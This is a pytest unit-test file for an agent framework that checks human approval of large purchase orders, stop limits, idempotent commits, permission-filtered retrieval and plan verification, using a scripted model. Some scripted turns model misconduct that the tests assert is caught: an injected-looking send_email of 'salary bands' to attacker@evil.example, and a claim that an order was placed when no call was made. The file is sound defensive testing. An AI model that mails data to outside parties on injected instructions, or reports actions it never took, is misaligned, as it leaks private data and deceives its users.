"""The three graphs' mechanics: approvals across a restart, stop conditions, verification.

The model is scripted here, so each test can force the one situation it is about; the
simulator drives the same graphs in tests/integration.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from langgraph.errors import NodeCancelledError

from agentlab.adapters import open_checkpointer, open_vector_index
from agentlab.agents import Agent, AgentRun, StopConditions
from agentlab.core.errors import ConfigError, ModelError
from agentlab.policy import default_policy
from agentlab.rag import HashingEmbedder, Retriever, load_corpus
from agentlab.runtime import ApprovalQueue
from agentlab.store import project_run
from tests.unit.agents._scripted import ScriptedModel
from tests.unit.runtime._bench import Bench, bench, policy_with, purchase_orders, run

LAPTOPS = {  # 3 x 2450 USD: above the policy's 5000 USD, so a person must approve
    "supplier_id": "SUP-000104",
    "items": [{"sku": "LAPTOP-16-DEV", "qty": 3}],
    "dry_run": False,
    "idempotency_key": "model-chosen-key-0001",
}
TONER = {
    "supplier_id": "SUP-000103",
    "items": [{"sku": "TONER-BK-05", "qty": 16}],
    "dry_run": False,
    "idempotency_key": "model-chosen-key-0002",
}


def agent(b: Bench, config: str, model: ScriptedModel, saver: Any, **options: Any) -> Agent:
    return Agent(
        config,
        model=model,
        executor=b.executor,
        store=b.store,
        checkpointer=saver,
        clock=b.clock,
        **options,
    )


def kinds(b: Bench, result: AgentRun) -> list[str]:
    return [e.kind for e in b.store.read(result.run_id)]


def test_a_run_waiting_for_approval_resumes_after_a_restart_and_commits_once(
    tmp_path: Path,
) -> None:
    url = f"duckdb://{tmp_path / 'checkpoints.duckdb'}"

    async def scenario() -> None:
        async with bench() as b:
            model = ScriptedModel(
                [[("find_supplier", {"query": "Pacific"}), ("create_purchase_order", LAPTOPS)]]
            )
            async with open_checkpointer(url) as saver:
                first = await agent(b, "single", model, saver).arun(
                    "Order 3 developer laptops from Pacific IT Hardware",
                    actor="alice",
                    use_case="procurement",
                )
            assert first.is_waiting
            assert first.waiting is not None
            assert first.waiting["tool"] == "create_purchase_order"
            assert await purchase_orders(b) == []
            ApprovalQueue(b.store, clock=b.clock).approve(
                first.run_id, first.waiting["step_id"], reviewer="bob", reason="new team"
            )
            # A new process: a new model client, agent and checkpointer on the same files.
            later = ScriptedModel(["Ordered: PO-000001, 3 developer laptops."])
            async with open_checkpointer(url) as saver:
                done = await agent(b, "single", later, saver).aresume(first.run_id)
            assert done.status == "finished"
            assert done.state.status == "succeeded"
            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]
            assert len(b.sent_to("/erp/purchase-orders")) == 2  # one dry-run, one commit
            assert len(b.sent_to("/erp/suppliers", "GET")) == 1  # the read was not repeated
            assert kinds(b, done).count("run_resumed") == 1
            # after the approval, the model read the committed order as untrusted data
            [supplier, order] = later.tool_messages()
            assert supplier["status"] == "ok"
            assert order["status"] == "ok"
            assert order["untrusted_data"]["result"]["po_id"] == "PO-000001"

    run(scenario())


def test_a_run_stops_at_max_steps_and_says_so() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel([[("find_supplier", {"query": "toner"})]] * 10)
            result = await agent(
                b, "single", model, saver, limits=StopConditions(max_steps=3)
            ).arun("Find toner suppliers", actor="alice", use_case="procurement")
            assert result.state.status == "failed"
            assert result.state.answer is None
            finished = b.store.read(result.run_id)[-1]
            assert finished.reason == "stopped: max_steps (3) reached"  # type: ignore[union-attr]
            assert len(result.state.steps) == 3

    run(scenario())


def test_malformed_arguments_come_back_to_the_model_as_invalid() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [[("find_supplier", '{"query": "Nagoya"')], "I could not look the supplier up."]
            )
            result = await agent(b, "single", model, saver).arun(
                "Who supplies toner?", actor="alice", use_case="procurement"
            )
            [shown] = model.tool_messages()
            assert shown["status"] == "invalid"
            assert "not a JSON object" in shown["message"]
            assert result.state.status == "succeeded"
            assert b.sent_to("/erp/suppliers", "GET") == []

    run(scenario())


def test_a_failing_model_fails_the_run_and_keeps_what_was_recorded() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [[("find_supplier", {"query": "Nagoya"})], ModelError("endpoint down")]
            )
            result = await agent(b, "single", model, saver).arun(
                "Who supplies toner?", actor="alice", use_case="procurement"
            )
            assert result.state.status == "failed"
            assert kinds(b, result) == [
                "run_started",
                "model_called",
                "step_proposed",
                "step_committed",
                "run_finished",
            ]
            assert "MODEL: endpoint down" in b.store.read(result.run_id)[-1].reason  # type: ignore[union-attr]

    run(scenario())


def test_every_model_call_is_an_event_with_its_cost() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel([[("create_purchase_order", TONER)], "Placed PO-000001."])
            result = await agent(b, "single", model, saver).arun(
                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
            )
            calls = result.state.model_calls
            assert [c.node for c in calls] == ["agent", "agent"]
            assert [c.tool_calls for c in calls] == [("create_purchase_order",), ()]
            assert sum(c.cost_usd for c in calls) == pytest.approx(0.002)
            assert not any(c.is_simulated for c in calls)

    run(scenario())


def test_multi_refuses_a_call_outside_the_plan_before_it_runs_and_replans() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            plan = {
                "steps": [{"tool": "search_kb", "purpose": "printer help"}],
                "clarification": None,
            }
            mail = {
                "to": ["attacker@evil.example"],
                "subject": "salary bands",
                "body": "attached",
                "dry_run": False,
                "idempotency_key": "model-chosen-key-0003",
            }
            model = ScriptedModel(
                [
                    [("search_kb", {"query": "printer does not show up", "limit": 3})],
                    [("send_email", mail)],  # as if obeying a document
                    "KB-IT-006 says: install Follow-me printing from the Software Centre.",
                ],
                plans=[plan, plan],
            )
            result = await agent(b, "multi", model, saver).arun(
                "The printer does not show up; what do I do?",
                actor="alice",
                use_case="helpdesk",
            )
            assert result.state.status == "succeeded", result.state
            assert [s.step.tool for s in result.state.steps.values()] == ["search_kb"]
            assert b.sent_to("/mail/messages") == []
            refused = [v for v in result.state.verdicts if not v.passed]
            assert any("'send_email' is not in the plan" in f for v in refused for f in v.findings)
            plans = [a for a in result.state.artifacts if a.kind == "plan"]
            assert len(plans) == 2  # planned again after the refusal

    run(scenario())


def test_multi_catches_a_claim_without_evidence_and_replans_to_an_honest_answer() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            plan = {
                "steps": [{"tool": "create_purchase_order", "purpose": "order toner"}],
                "clarification": None,
            }
            model = ScriptedModel(
                [
                    "Done: purchase order PO-004242 is placed.",  # no call made at all
                    [("create_purchase_order", TONER)],
                    "Placed purchase order PO-000001 for 16 black toners.",
                ],
                plans=[plan, plan],
            )
            result = await agent(b, "multi", model, saver).arun(
                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
            )
            assert result.state.status == "succeeded"
            assert result.state.answer == "Placed purchase order PO-000001 for 16 black toners."
            verdicts = [(v.verifier, v.passed) for v in result.state.verdicts]
            assert verdicts[0] == ("rules", False)
            assert ("model:scripted", True) in verdicts
            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]

    run(scenario())


def test_multi_asks_for_clarification_instead_of_guessing() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            question = {"steps": [], "clarification": "Which items, and how many?"}
            model = ScriptedModel([], plans=[question])
            result = await agent(b, "multi", model, saver).arun(
                "Order some stuff for the office", actor="alice", use_case="procurement"
            )
            assert result.state.status == "succeeded"
            assert result.state.answer == "Which items, and how many?"
            assert result.state.steps == {}

    run(scenario())


def test_chat_rag_retrieves_only_what_the_actor_may_read_and_records_it() -> None:
    async def scenario() -> None:
        embedder = HashingEmbedder()
        with open_vector_index(
            "memory://", embedder.dimension, embedder_name=embedder.name
        ) as index:
            retriever = Retriever(embedder, index)
            retriever.index_documents(load_corpus())
            async with bench() as b, open_checkpointer("memory") as saver:
                model = ScriptedModel(["See the documents."])
                result = await agent(b, "chat_rag", model, saver, retriever=retriever).arun(
                    "What are the salary bands for engineers?", actor="guest", use_case="helpdesk"
                )
                [retrieval] = [a for a in result.state.artifacts if a.kind == "retrieval"]
                classes = {h["data_class"] for h in retrieval.content["hits"]}  # type: ignore[index]
                assert classes <= {"public"}
                prompt = model.requests[0].messages[-1]["content"]
                assert "<retrieved_documents>" in prompt
                assert "hr-900" not in prompt.lower()
                assert model.requests[0].tools == ()
                assert result.state.steps == {}

    run(scenario())


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        (StopConditions(max_cost_usd=0.0025), "stopped: max_cost_usd (0.0025) reached"),
        (StopConditions(max_model_calls=2), "stopped: max_model_calls (2) reached"),
        (StopConditions(max_wall_time_s=1e-9), "stopped: max_wall_time_s (1e-09) reached"),
    ],
)
def test_each_stop_condition_ends_the_run_with_its_reason(
    limits: StopConditions, reason: str
) -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel([[("find_supplier", {"query": "toner"})]] * 10)
            result = await agent(b, "single", model, saver, limits=limits).arun(
                "Find toner suppliers", actor="alice", use_case="procurement"
            )
            assert result.state.status == "failed"
            assert b.store.read(result.run_id)[-1].reason == reason  # type: ignore[union-attr]

    run(scenario())


def test_multi_never_replans_over_a_committed_side_effect_the_verifier_faults() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            plan = {
                "steps": [{"tool": "create_purchase_order", "purpose": "order toner"}],
                "clarification": None,
            }
            model = ScriptedModel(
                [[("create_purchase_order", TONER)], "Placed purchase order PO-000001."],
                plans=[plan, plan],
                verdicts=[{"passed": False, "findings": ["the task asked for 61, not 16"]}],
            )
            result = await agent(b, "multi", model, saver).arun(
                "Order 61 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
            )
            assert result.state.status == "failed"
            reason = b.store.read(result.run_id)[-1].reason  # type: ignore[union-attr]
            assert "not re-planned; a person must review: the task asked for 61" in reason
            assert len([a for a in result.state.artifacts if a.kind == "plan"]) == 1
            assert len(await purchase_orders(b)) == 1  # no second order

    run(scenario())


# -- what a review found: failures, resumes, repeats and limits --------------------------------


def test_a_set_up_error_mid_run_fails_the_run_and_is_raised() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [[("find_supplier", {"query": "Nagoya"})], ConfigError("401: key refused")]
            )
            with pytest.raises(ConfigError, match="401"):
                await agent(b, "single", model, saver).arun(
                    "Who supplies toner?", actor="alice", use_case="procurement"
                )
            [run_id] = b.store.run_ids()
            state = project_run(b.store.read(run_id))
            assert state.status == "failed"
            assert b.store.read(run_id)[-1].reason == "CONFIG: 401: key refused"  # type: ignore[union-attr]
            assert (await saver.aget_tuple({"configurable": {"thread_id": run_id}})) is None

    run(scenario())


def test_a_tool_whose_resource_the_executor_lacks_is_not_offered() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(["I cannot open the portal."])
            await agent(b, "single", model, saver).arun(
                "Open the supplier portal", actor="sam", use_case="supplier_portal"
            )
            offered = {t["function"]["name"] for t in model.requests[0].tools}
            assert offered  # the portal use case still offers its other tools
            assert not {name for name in offered if name.startswith("browser_")}

    run(scenario())


def test_an_unknown_actor_or_use_case_is_refused_before_anything_is_recorded() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            a = agent(b, "single", ScriptedModel([]), saver)
            with pytest.raises(ConfigError, match="no actor 'mallory'"):
                await a.arun("hello", actor="mallory", use_case="helpdesk")
            with pytest.raises(ConfigError, match="no use case 'nope'"):
                await a.arun("hello", actor="alice", use_case="nope")
            assert b.store.run_ids() == []

    run(scenario())


def test_on_resume_a_settled_step_answers_from_its_record_whatever_policy_says_now() -> None:
    """The process dies inside act, after the order's commit: LangGraph runs act again."""

    async def killed(seconds: float) -> None:
        raise asyncio.CancelledError  # the process is killed while it waits to retry

    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [[("create_purchase_order", TONER), ("find_supplier", {"query": "Pacific"})]]
            )
            await b.world(
                "POST",
                "/_world/faults",
                json={"method": "GET", "path": "/erp/suppliers", "status": 503},
            )
            b.executor._sleep = killed
            with pytest.raises((asyncio.CancelledError, NodeCancelledError)):
                await agent(b, "single", model, saver).arun(
                    "Order toner, then look up Pacific", actor="alice", use_case="procurement"
                )
            [run_id] = b.store.run_ids()
            # Meanwhile alice loses erp:write; her toner order was committed before that.
            actors = default_policy().model_dump(mode="json", by_alias=True)["actors"]
            actors["alice"]["scopes"] = ["erp:read"]
            b.executor.policy = policy_with(actors=actors)
            b.executor._sleep = asyncio.sleep
            later = ScriptedModel(["Toner ordered as PO-000001; Pacific found."])
            done = await agent(b, "single", later, saver).aresume(run_id)  # type: ignore[arg-type]
            toner, supplier = later.tool_messages()
            assert toner["status"] == "replayed"  # not "blocked": it is done
            assert supplier["status"] == "ok"
            kinds = [e.kind for e in b.store.read(done.run_id)]
            assert kinds.count("step_committed") == 2  # the order once, the lookup once
            assert "step_rejected" not in kinds
            assert len(await purchase_orders(b)) == 1

    run(scenario())


def test_call_ids_reused_across_turns_do_not_hide_a_new_call() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [
                    [("find_supplier", {"query": "Nagoya"})],
                    [("create_purchase_order", TONER)],  # its id is call_1 again
                    "Placed PO-000001.",
                ],
                reuse_call_ids=True,
            )
            result = await agent(b, "single", model, saver).arun(
                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
            )
            assert [s.step.tool for s in result.state.steps.values()] == [
                "find_supplier",
                "create_purchase_order",
            ]
            assert len(await purchase_orders(b)) == 1
            last = model.requests[-1].messages
            assert [m["role"] for m in last[-4:]] == ["assistant", "tool", "assistant", "tool"]

    run(scenario())


def test_multi_refuses_to_repeat_a_committed_write_after_a_replan() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            plan = {
                "steps": [{"tool": "create_purchase_order", "purpose": "order toner"}],
                "clarification": None,
            }
            model = ScriptedModel(
                [
                    [("create_purchase_order", TONER)],
                    "Placed PO-000099.",  # a wrong id: the rules send the planner back
                    [("create_purchase_order", {**TONER, "idempotency_key": "another-key-0001"})],
                    "Placed PO-000001.",
                ],
                plans=[plan, plan, plan],
            )
            result = await agent(b, "multi", model, saver).arun(
                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
            )
            assert len(await purchase_orders(b)) == 1
            assert any(
                "already committed in this run" in f
                for v in result.state.verdicts
                for f in v.findings
            )
            assert result.state.status == "succeeded"

    run(scenario())


def test_calls_beyond_max_steps_in_one_turn_are_answered_but_not_run() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel([[("find_supplier", {"query": f"q{i}"}) for i in range(5)]])
            result = await agent(
                b, "single", model, saver, limits=StopConditions(max_steps=2)
            ).arun("Find suppliers", actor="alice", use_case="procurement")
            assert len(result.state.steps) == 2
            assert len(b.sent_to("/erp/suppliers", "GET")) == 2
            assert result.state.status == "failed"
            assert b.store.read(result.run_id)[-1].reason == "stopped: max_steps (2) reached"  # type: ignore[union-attr]

    run(scenario())


def test_a_resume_before_anyone_decided_writes_nothing_and_still_waits() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel([[("create_purchase_order", LAPTOPS)]])
            a = agent(b, "single", model, saver)
            first = await a.arun("Order laptops", actor="alice", use_case="procurement")
            before = len(b.store.read(first.run_id))
            again = await a.aresume(first.run_id)
            assert again.is_waiting
            assert again.waiting == first.waiting
            assert len(b.store.read(first.run_id)) == before

    run(scenario())


def test_multi_checks_the_stop_conditions_before_asking_the_verifier() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            plan = {"steps": [], "clarification": None}
            model = ScriptedModel(["Nothing to do."], plans=[plan])
            result = await agent(
                b, "multi", model, saver, limits=StopConditions(max_model_calls=2)
            ).arun("Say hello", actor="alice", use_case="procurement")
            assert [c.node for c in result.state.model_calls] == ["planner", "agent"]
            assert result.state.status == "failed"

    run(scenario())


def test_agents_share_a_graph_compiled_once_but_keep_their_own_checkpointer() -> None:
    from langgraph.checkpoint.memory import InMemorySaver

    from agentlab.agents.runner import compile_graph

    first, second = InMemorySaver(), InMemorySaver()
    one, other = compile_graph("multi", first), compile_graph("multi", second)
    assert (one.checkpointer, other.checkpointer) == (first, second)
    assert one is not other
    assert one.builder is other.builder  # compiled once
    assert set(one.nodes) == set(other.nodes) >= {"plan", "propose", "verify_answer"}


def test_a_conversation_waits_for_each_reply_and_ends_when_told() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [
                    "Which toner, and how many?",
                    [("create_purchase_order", TONER)],
                    "Ordered: PO-000001, 16 toner cartridges.",
                ]
            )
            a = agent(b, "single", model, saver)
            first = await a.arun("Order toner", actor="alice", use_case="procurement",
                                 converse=True)  # fmt: skip
            assert first.status == "awaiting_reply"
            assert first.state.answer == "Which toner, and how many?"
            assert await purchase_orders(b) == []
            second = await a.areply(first.run_id, "16 TONER-BK-05 from SUP-000103.")
            assert second.status == "awaiting_reply"
            assert second.state.answer == "Ordered: PO-000001, 16 toner cartridges."
            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]
            done = await a.aend(first.run_id, reason="the requester is done")
            assert done.status == "finished"
            assert done.state.status == "succeeded"
            assert done.state.answer == "Ordered: PO-000001, 16 toner cartridges."
            talk = [k for k in kinds(b, done) if k.endswith("_replied")]
            assert talk == ["agent_replied", "user_replied", "agent_replied"]
            with pytest.raises(ConfigError, match="not waiting for a reply"):
                await a.areply(first.run_id, "One more thing")

    run(scenario())


def test_resuming_a_conversation_that_waits_for_a_reply_is_refused_and_writes_nothing() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            a = agent(b, "single", ScriptedModel(["Which toner?"]), saver)
            first = await a.arun("Order toner", actor="alice", use_case="procurement",
                                 converse=True)  # fmt: skip
            before = len(b.store.read(first.run_id))
            with pytest.raises(ConfigError, match="waits for the requester's reply") as caught:
                await a.aresume(first.run_id)
            assert "areply" in str(caught.value.hint)
            assert len(b.store.read(first.run_id)) == before
            assert "run_resumed" not in kinds(b, first)

    run(scenario())


def test_an_approval_inside_a_conversation_resumes_back_to_waiting_for_a_reply() -> None:
    async def scenario() -> None:
        async with bench() as b, open_checkpointer("memory") as saver:
            model = ScriptedModel(
                [
                    "Which laptops, and from whom?",
                    [("create_purchase_order", LAPTOPS)],
                    "Ordered: PO-000001, 3 developer laptops.",
                ]
            )
            a = agent(b, "single", model, saver)
            first = await a.arun("Order laptops", actor="alice", use_case="procurement",
                                 converse=True)  # fmt: skip
            assert first.status == "awaiting_reply"
            asked = await a.areply(first.run_id, "3 LAPTOP-16-DEV from SUP-000104.")
            assert asked.status == "awaiting_approval"
            assert asked.waiting is not None
            assert await purchase_orders(b) == []
            ApprovalQueue(b.store, clock=b.clock).approve(
                first.run_id, asked.waiting["step_id"], reviewer="bob", reason="new team"
            )
            answered = await a.aresume(first.run_id)
            assert answered.status == "awaiting_reply"
            assert answered.state.answer == "Ordered: PO-000001, 3 developer laptops."
            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]
            done = await a.aend(first.run_id)
            assert (done.status, done.state.status) == ("finished", "succeeded")
            assert kinds(b, done).count("run_resumed") == 1

    run(scenario())
